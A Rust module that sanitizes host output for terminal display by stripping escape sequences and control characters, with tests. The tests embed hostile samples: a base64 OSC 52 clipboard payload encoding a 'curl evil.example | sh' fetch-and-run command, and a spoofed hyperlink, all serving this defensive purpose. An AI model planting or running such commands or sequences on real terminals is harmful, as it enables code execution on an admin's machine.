//! Text that came from hosts, made safe to show on a terminal.
//!
//! A host's output (and whatever else a host sends: a failed command's stderr tail, facts that
//! end up in a plan or an error) can carry sequences a terminal acts on instead of showing:
//! OSC 0 sets the window title, OSC 8 makes a hyperlink, OSC 52 writes the clipboard, CSI 2J
//! clears the screen, CSI A moves the cursor up to overwrite lines, a lone CR rewrites the
//! current line. A compromised node could use them to hide or fake what a run did, or to
//! plant a command in the admin's clipboard. [`terminal_safe`] removes them; every text-mode
//! output of the binary goes through it (`src/report`).
//!
//! JSON output is escaped by serde_json, which writes every C0 control as an escape (ESC is
//! `\u001b`), but not DEL or the C1 controls (U+0080 to U+009F): [`json_safe`] escapes those
//! too, which leaves the JSON's meaning as it was.
//!
//! The sequences follow ECMA-48 (5th edition, §5.4 control sequences, §5.6 control strings)
//! and the terminals' practice where it differs (xterm's ctlseqs and the Linux console end an
//! OSC string at BEL as well as at ST, and at any ESC).

use std::borrow::Cow;

/// `text` without escape sequences and control characters, except tab and newline:
/// - CSI sequences (`ESC [` or U+009B, parameter and intermediate bytes, one final byte);
/// - control strings up to their terminator: OSC (`ESC ]`, U+009D) up to BEL or ST, and DCS
///   (`ESC P`), SOS (`ESC X`), PM (`ESC ^`) and APC (`ESC _`) (or their C1 forms) up to ST
///   (`ESC \` or U+009C); an ESC inside one ends it, as in terminals, and one left open runs to
///   the end of the text;
/// - the other escape sequences (`ESC`, intermediate bytes, one final byte: `ESC c`, `ESC ( 0`,
///   `ESC # 8`);
/// - every other C0 control (a CR too: alone it rewrites the line), DEL and the C1 controls.
///
/// Everything else, any other Unicode text included, is kept as it is; a text without controls
/// is returned as it came.
pub fn terminal_safe(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_unsafe) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        // A control string can end at an ESC that starts the next sequence: a loop, not
        // recursion, so that a line of a million of them cannot exhaust the stack.
        let mut at_escape = match c {
            '\u{1b}' => true,
            '\u{9b}' => {
                skip_csi(&mut chars);
                false
            }
            '\u{9d}' => skip_string(&mut chars, true),
            '\u{90}' | '\u{98}' | '\u{9e}' | '\u{9f}' => skip_string(&mut chars, false),
            c if is_unsafe(c) => false,
            c => {
                out.push(c);
                false
            }
        };
        while at_escape {
            at_escape = skip_escape(&mut chars);
        }
    }
    Cow::Owned(out)
}

/// serde_json's output with DEL and the C1 controls escaped as well (`\u007f`, `\u0080` ...).
/// Outside strings JSON is ASCII punctuation, digits and keywords, so any such character is in
/// a string, where an escape means the same character.
pub fn json_safe(json: &str) -> Cow<'_, str> {
    let raw = |c: char| ('\u{7f}'..='\u{9f}').contains(&c);
    if !json.chars().any(raw) {
        return Cow::Borrowed(json);
    }
    let mut out = String::with_capacity(json.len() + 8);
    for c in json.chars() {
        if raw(c) {
            out.push_str(&format!("\\u{:04x}", u32::from(c)));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// A character a terminal may act on: the C0 controls but tab and newline, DEL, the C1 controls.
fn is_unsafe(c: char) -> bool {
    c.is_control() && c != '\t' && c != '\n'
}

type Chars<'a> = std::iter::Peekable<std::str::Chars<'a>>;

/// What an ESC (already read) starts. True when it was a control string that ended at another
/// ESC, which starts a sequence in turn.
fn skip_escape(chars: &mut Chars) -> bool {
    match chars.peek().copied() {
        Some('[') => {
            chars.next();
            skip_csi(chars);
            false
        }
        Some(']') => {
            chars.next();
            skip_string(chars, true)
        }
        Some('P' | 'X' | '^' | '_') => {
            chars.next();
            skip_string(chars, false)
        }
        Some(' '..='/') => {
            // Intermediate bytes, then one final byte (0x30 to 0x7E): `ESC ( 0`, `ESC # 8`.
            while chars.next_if(|c| (' '..='/').contains(c)).is_some() {}
            chars.next_if(|c| ('0'..='~').contains(c));
            false
        }
        Some('0'..='~') => {
            chars.next();
            false
        }
        // A lone ESC, or one before something no sequence continues with.
        _ => false,
    }
}

/// The rest of a control sequence after its CSI: parameter bytes (0x30 to 0x3F), intermediate
/// bytes (0x20 to 0x2F), then the final byte (0x40 to 0x7E). A character outside those ends it
/// unread, and is then handled as text.
fn skip_csi(chars: &mut Chars) {
    while chars.next_if(|c| (' '..='?').contains(c)).is_some() {}
    chars.next_if(|c| ('@'..='~').contains(c));
}

/// The rest of a control string after its opening: up to ST (`ESC \` or U+009C), or BEL for an
/// OSC. True when another ESC ended it (read): that ESC starts the next sequence.
fn skip_string(chars: &mut Chars, bel_ends: bool) -> bool {
    while let Some(c) = chars.next() {
        match c {
            '\u{1b}' => return chars.next_if_eq(&'\\').is_none(),
            '\u{9c}' => return false,
            '\u{7}' if bel_ends => return false,
            _ => {}
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn safe(text: &str) -> String {
        terminal_safe(text).into_owned()
    }

    #[test]
    fn osc_strings_go_whole_whichever_terminator_ends_them() {
        // Window title (BEL), hyperlink (ST), clipboard write (OSC 52), C1 OSC.
        assert_eq!(safe("\u{1b}]0;owned\u{7}hi"), "hi");
        assert_eq!(safe("a\u{1b}]8;;https://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\b"), "aclickb");
        assert_eq!(safe("\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\u{7}ok"), "ok");
        assert_eq!(safe("\u{9d}0;owned\u{9c}hi"), "hi");
        // Left open: the rest of the text was the terminal's, not the reader's.
        assert_eq!(safe("before\u{1b}]0;never ended"), "before");
    }

    #[test]
    fn csi_sequences_go_whole() {
        assert_eq!(safe("\u{1b}]0;owned\u{7}\u{1b}[2Jhi"), "hi");
        assert_eq!(safe("\u{1b}[1;31mred\u{1b}[0m \u{1b}[?1049h\u{1b}[3A\u{1b}[2K"), "red ");
        assert_eq!(safe("\u{9b}2Jhi"), "hi");
        // A CSI broken off by text leaves the text.
        assert_eq!(safe("\u{1b}[12€x"), "€x");
    }

    #[test]
    fn device_control_and_private_strings_go_up_to_st() {
        assert_eq!(safe("a\u{1b}Pq#0;2;0;0;0\u{1b}\\b"), "ab");
        assert_eq!(safe("a\u{1b}_apc payload\u{1b}\\b\u{1b}^pm\u{9c}c\u{1b}Xsos\u{1b}\\d"), "abcd");
        // BEL does not end them (only OSC), an ESC does, and starts its own sequence.
        assert_eq!(safe("a\u{1b}Pdata\u{7}more\u{1b}[2Jb"), "ab");
        assert_eq!(safe("a\u{90}dcs\u{9c}b"), "ab");
    }

    #[test]
    fn two_byte_escapes_and_lone_controls_go() {
        // Full reset, save cursor, charset designation, screen alignment test.
        assert_eq!(safe("a\u{1b}cb\u{1b}7c\u{1b}(0d\u{1b}#8e"), "abcde");
        // A lone CR rewrites the line; backspace, bell, DEL, C1 NEL and a trailing ESC.
        assert_eq!(safe("done\rFAILED\u{8}\u{8}\u{7}\u{7f}\u{85}\u{1b}"), "doneFAILED");
        assert_eq!(safe("crlf\r\n"), "crlf\n");
    }

    #[test]
    fn strings_ended_by_strings_a_million_deep_are_no_risk() {
        let text = "\u{1b}]".repeat(1_000_000) + "\u{7}ok";
        assert_eq!(safe(&text), "ok");
    }

    #[test]
    fn text_stays_as_it_was() {
        let text = "cp1:\tkubelet 1.31.4 — prêt ✓ 日本語 <redacted>\n";
        assert!(matches!(terminal_safe(text), Cow::Borrowed(t) if t == text));
        // Next to sequences, the redaction marker and UTF-8 come through whole.
        assert_eq!(safe("\u{1b}[1mtoken: <redacted>\u{1b}[0m é\u{1b}]0;x\u{7}ü"), "token: <redacted> éü");
    }

    #[test]
    fn json_keeps_its_meaning_with_del_and_c1_escaped() {
        let value = serde_json::json!({ "line": "a\u{1b}]0;t\u{7}b\u{9b}2J\u{7f}c" });
        let json = serde_json::to_string(&value).unwrap();
        let safe = json_safe(&json).into_owned();
        assert!(!safe.chars().any(char::is_control), "{safe:?}");
        assert_eq!(serde_json::from_str::<serde_json::Value>(&safe).unwrap(), value);
        assert!(matches!(json_safe("{\"a\":\"é\"}"), Cow::Borrowed(_)));
    }

    proptest! {
        #[test]
        fn nothing_a_terminal_acts_on_is_left(text in "(\\PC|[\u{0}-\u{1f}\u{7f}-\u{9f}]|\u{1b}[\\[\\]P_^X(#]){0,40}") {
            let out = terminal_safe(&text);
            prop_assert!(!out.chars().any(is_unsafe), "{:?} -> {:?}", text, out);
            prop_assert_eq!(terminal_safe(&out), out.clone(), "stripping twice changes nothing");
        }
    }
}
